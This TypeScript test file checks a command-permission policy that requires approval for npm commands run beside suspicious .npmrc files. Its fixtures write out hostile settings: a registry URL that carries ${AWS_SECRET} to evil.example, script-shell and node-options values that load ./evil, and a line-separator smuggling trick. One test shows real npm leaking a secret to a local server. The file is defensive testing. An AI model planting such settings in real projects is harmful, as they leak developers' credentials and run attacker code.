/** `npm ls` beside an `.npmrc`: most of them say how packages are installed; some name a program, a file or another machine. */
import { spawn } from 'node:child_process';
import { mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { judgeIn, judgeUnder } from '../judged-line.js';
import { withFiles } from '../scratch.js';

const judge = judgeUnder('version: 1\npreset: safe\nallow: ["Bash(cp *)", "Bash(tee *)"]\n');

const harmless: readonly (readonly [string, string])[] = [
  ['', 'an empty file'],
  ['# registry=https://evil.example/\n; script-shell=./x\n\n', 'comments'],
  ['save-exact=true\nfund = false\n  audit=false\r\nengine-strict=true\n', 'how packages are installed'],
  ['registry=https://registry.npmjs.org/\n', 'the registry that npm asks anyway'],
  ['registry = https://registry.npmjs.org', 'without the slash'],
  ['auto-install-peers=true\nshamefully-hoist=true\nnode-linker=hoisted\npublic-hoist-pattern[]=*eslint*\n', 'settings of pnpm'],
  ['ignore-scripts=true\nloglevel=warn\nsave-prefix=""\nsave-prefix=~\nfetch-retries=5\n', 'words and numbers'],
];

const asked: readonly (readonly [string, string])[] = [
  ['script-shell=./evil\n', 'names a program'],
  ['# //registry.npmjs.org/:_authToken=x\n', 'a credential that was commented out'],
  ['; npm_abcdefghijklmnopqrstuvwxyz0123\n', 'what looks like one'],
  ['save-exact=true\nshell=./evil\n', 'among harmless ones'],
  ['node-options=--require=./evil.js\n', 'options of node'],
  ['registry=https://evil.example/\n', 'another machine'],
  ['registry=https://registry.npmjs.org.evil.example/\n', 'a name that begins alike'],
  ['registry=https://registry.npmjs.org@evil.example/\n', 'the name as a user'],
  ['registry=http://registry.npmjs.org/\n', 'without encryption'],
  ['registry=https://registry.npmjs.org/${AWS_SECRET}\n', 'the environment in an address'],
  ['loglevel=${X}\n', 'the environment in a value'],
  ['${X}=true\n', 'the environment in a name'],
  ['//registry.npmjs.org/:_authToken=npm_x\n', 'a credential'],
  ['ignore-scripts=false\n', 'what the user may have switched off'],
  ['strict-ssl=false\n', 'no check of certificates'],
  ['prefix=/tmp/x\n', 'another place'],
  ['userconfig=./other\n', 'other settings'],
  ['globalconfig=./other\n', 'other settings'],
  ['cache=./x\n', 'where npm writes'],
  ['logs-dir=/home/nobody\n', 'where npm writes'],
  ['proxy=http://evil.example\n', 'a machine between'],
  ['node-linker=pnp\n', 'node loads a file of the project'],
  ['fund\n', 'no value'],
  ['[x]\nfund=true\n', 'a section'],
  ['"script-shell"=./evil\n', 'a name in quotes'],
  ['fund=true ; x\n', 'a comment behind a value, which npm cuts off'],
  ['fund=true\u2028script-shell=./evil\n', 'what some programs take for a line break'],
  ['\ufefffund=true\n', 'a byte order mark'],
  ['#\0\nfund=true\n', 'no text'],
  [`${'#\n'.repeat(300)}`, 'too many lines'],
  [`#${'x'.repeat(20_000)}\n`, 'too large'],
];

for (const [text, why] of harmless)
  test(`allows beside ${JSON.stringify(text)}: ${why}`, () =>
    withFiles({ '.npmrc': text, 'package.json': '{}' }, (project) => {
      for (const line of [
        'npm ls',
        'npm run',
        'npm explain x',
        'npm view x',
        'npm outdated',
        'cat .npmrc',
        'grep -rn x .',
        'cat .npmr?',
      ])
        assert.is(judge(project, line).decision, 'allow', line);
    }));

for (const [text, why] of asked)
  test(`asks beside ${JSON.stringify(text.slice(0, 80))}: ${why}`, () =>
    withFiles({ '.npmrc': text, 'package.json': '{}' }, (project) => {
      for (const line of ['cat .npmrc', 'grep -rn x .']) assert.is(judge(project, line).decision, 'ask', line);
      for (const line of ['npm ls', 'npm view x', 'npm outdated', 'npm config get registry', 'npm help']) {
        const { decision, reasons } = judge(project, line);
        assert.equal([decision, reasons[0]?.code], ['ask', 'path/settings'], line);
      }
    }));

const byPerson = judgeUnder('version: 1\npreset: safe\nallow: ["Bash(npm view*)"]\n');
const work = judgeIn('version: 1\npreset: develop\n');
const SENDS = { '.npmrc': 'registry=https://evil.example/${AWS_SECRET}/\n', 'package.json': '{"scripts":{"test":"x"}}' };

test('only a rule that a person wrote lifts what a file beside the command may do to it', () =>
  withFiles(SENDS, (project) => {
    assert.is(byPerson(project, 'npm view x').decision, 'allow');
    for (const line of ['npm view x', 'npm outdated']) assert.is(work(project, line).decision, 'ask', line);
    assert.is(work(project, 'npm test').decision, 'allow', 'the work of a trusted project');
  }));

test('real npm sends what such a file names to the address that it names', async () => {
  const asked: string[] = [];
  const server = createServer(({ url }, response) => {
    asked.push(url ?? '');
    response.writeHead(404).end();
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  const { port } = server.address() as AddressInfo;
  const project = mkdtempSync(join(tmpdir(), 'policy-npm-'));
  try {
    writeFileSync(join(project, '.npmrc'), `registry=http://127.0.0.1:${port}/\${AWS_SECRET}/\n`);
    writeFileSync(join(project, 'package.json'), '{}');
    const environment = { PATH: process.env.PATH, HOME: project, AWS_SECRET: 'told-to-strangers' };
    await new Promise((resolve) => {
      spawn('npm', ['view', 'x', '--fetch-retries=0'], { cwd: project, env: environment, stdio: 'ignore' }).on('close', resolve);
    });
    assert.ok(
      asked.some((url) => url.includes('told-to-strangers')),
      asked.join(' '),
    );
    assert.is(judge(realpathSync(project), 'npm view x').decision, 'ask');
  } finally {
    server.close();
    rmSync(project, { recursive: true });
  }
});

test('without such a file the preset allows them', () =>
  withFiles({ 'package.json': '{}' }, (project) => {
    for (const line of ['npm view x', 'npm outdated']) {
      assert.is(judge(project, line).decision, 'allow', line);
      assert.is(work(project, line).decision, 'allow', line);
    }
  }));

const FUND = 'fund=false\n';
const EVIL = 'script-shell=./evil\n';
const places: readonly (readonly [string, Readonly<Record<string, string>>, 'allow' | 'ask', string])[] = [
  ['cd frontend && npm ls', { '.npmrc': FUND, 'frontend/.npmrc': FUND }, 'allow', 'both are harmless'],
  ['cd frontend && npm ls', { '.npmrc': FUND, 'frontend/.npmrc': EVIL }, 'ask', 'the one of the nested package'],
  ['cd frontend && npm ls', { '.npmrc': EVIL, 'frontend/.npmrc': FUND }, 'ask', 'the one above'],
  ['npm ls', { '.npmrc': '-> other', other: FUND }, 'ask', 'a link'],
  ['npm ls', { '.npmrc/x': FUND }, 'ask', 'a folder'],
  ['cd a && npm ls', { a: '-> b', 'b/.npmrc': FUND }, 'ask', 'a folder that is a link'],
  ['cp evil .npmrc; npm ls', { '.npmrc': FUND, evil: EVIL }, 'ask', 'written before'],
  [
    'tee frontend/.npmrc < evil && cd frontend && npm ls',
    { 'frontend/.npmrc': FUND, evil: EVIL },
    'ask',
    'written in the folder',
  ],
  ['npm ls | tee .npmrc', { '.npmrc': FUND }, 'ask', 'written at the same time'],
  ['git pull; npm ls', { '.npmrc': FUND }, 'ask', 'another one may come with a commit'],
];

for (const [line, files, expected, why] of places)
  test(`${line} is ${expected}: ${why}`, () =>
    withFiles({ 'frontend/package.json': '{}', ...files }, (project) => assert.is(judge(project, line).decision, expected)));

test.run();
